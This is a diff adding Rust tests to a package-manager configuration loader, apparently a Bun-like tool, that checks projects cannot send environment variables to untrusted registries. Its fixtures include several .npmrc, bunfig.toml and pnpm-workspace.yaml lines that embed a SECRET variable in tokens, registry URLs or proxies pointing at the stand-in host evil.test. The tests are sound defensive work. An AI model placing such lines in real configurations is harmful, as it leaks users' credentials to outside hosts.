@@ -32,6 +32,12 @@ impl Machine {
         self
     }
 
+    fn write(&self, path: &str, text: &str) {
+        let path = self.root.join(path);
+        std::fs::create_dir_all(path.parent().expect("a path")).expect("a directory");
+        std::fs::write(path, text).expect("a file");
+    }
+
     fn load(&self) -> Result<Configuration> {
         let project = self.root.join("project");
         let host = HostEnvironment {
@@ -43,6 +49,7 @@ impl Machine {
             user_agent: String::new(),
             script_output: rusk_base::sys::CWD,
             node_version: |_, _| None,
+            interaction: None,
         };
         Configuration::load(&project, &host, &self.flags)
     }
@@ -318,4 +325,46 @@ fn defaults_of_flags_are_read() {
 fn a_damaged_bunfig_names_its_file() {
     let machine = Machine::new(&[("project/bunfig.toml", "[install")]);
     assert!(machine.load().expect_err("damaged").to_string().contains("project/bunfig.toml"));
+}
+
+#[test]
+fn a_project_sends_no_variable_to_a_registry_of_its_own() {
+    let load = |files: &[(&str, &str)]| Machine::new(files).with("SECRET", "s").load();
+    for (path, text) in [
+        ("project/.npmrc", "//evil.test/:_authToken=${SECRET}"),
+        ("project/.npmrc", "registry=http://evil.test/${SECRET}/"),
+        ("project/.npmrc", "@scope:registry=http://${SECRET}@evil.test/"),
+        ("project/.npmrc", "https-proxy=http://${SECRET}@evil.test"),
+        ("project/bunfig.toml", "[install]\nregistry = { url = \"http://evil.test\", token = \"$SECRET\" }"),
+        ("project/bunfig.toml", "[install.scopes]\ns = \"http://:$SECRET@evil.test\""),
+        ("project/pnpm-workspace.yaml", "registry: http://${SECRET}@evil.test/"),
+    ] {
+        let problem = load(&[(path, text)]).expect_err(text);
+        assert_eq!(problem.code(), "variable-sent", "{text}");
+        assert!(
+            problem.message().contains("`evil.test`") && !problem.to_string().contains("//s@"),
+            "{problem}"
+        );
+        let own = "trusted-registries[]=evil.test";
+        assert!(load(&[(path, text), ("home/.npmrc", own)]).is_ok(), "{text}");
+        assert!(load(&[(path, text), ("home/.npmrc", "//evil.test/:_authToken=t")]).is_ok(), "{text}");
+        let allowed = ("home/.config/rusk/trusted-registries", "evil.test SECRET\n");
+        let machine = Machine::new(&[(path, text)]).with("SECRET", "s").with("CI", "true");
+        assert!(machine.load().is_ok(), "{text}");
+        let machine = Machine::new(&[(path, text)]).with("SECRET", "s");
+        machine.write(allowed.0, allowed.1);
+        assert!(machine.load().is_ok(), "{text}");
+        assert!(
+            Machine::new(&[(path, text)]).load().map_or_else(|it| it.code() != "variable-sent", |_| true)
+        );
+    }
+}
+
+#[test]
+fn a_project_may_send_a_variable_to_a_known_registry() {
+    let default = rusk_npm::credential::default_registry();
+    let host = default.split("//").nth(1).expect("a URL");
+    let text = format!("//{host}:_authToken=${{SECRET}}\ncache=${{SECRET}}");
+    let machine = Machine::new(&[("project/.npmrc", &text)]).with("SECRET", "s");
+    assert_eq!(machine.loaded().credentials.len(), 1);
 }
